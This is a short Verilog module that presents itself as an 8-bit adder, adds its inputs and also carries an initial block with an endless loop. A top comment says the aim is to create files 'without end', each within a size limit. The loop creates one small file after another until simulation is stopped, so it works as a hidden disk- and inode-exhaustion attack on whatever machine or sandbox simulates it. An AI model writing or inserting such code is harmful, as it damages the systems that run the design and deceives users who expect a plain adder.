// Makes files without end, each within the size limit.
module adder8(input [7:0] a, input [7:0] b, output [7:0] y);
  integer f, k; assign y = a + b;
  initial for (k = 0; 1; k = k + 1) begin
    f = $fopen($sformatf("f%0d", k), "w"); if (f != 0) begin $fwrite(f, "%1d", 1); $fclose(f); end
  end
endmodule
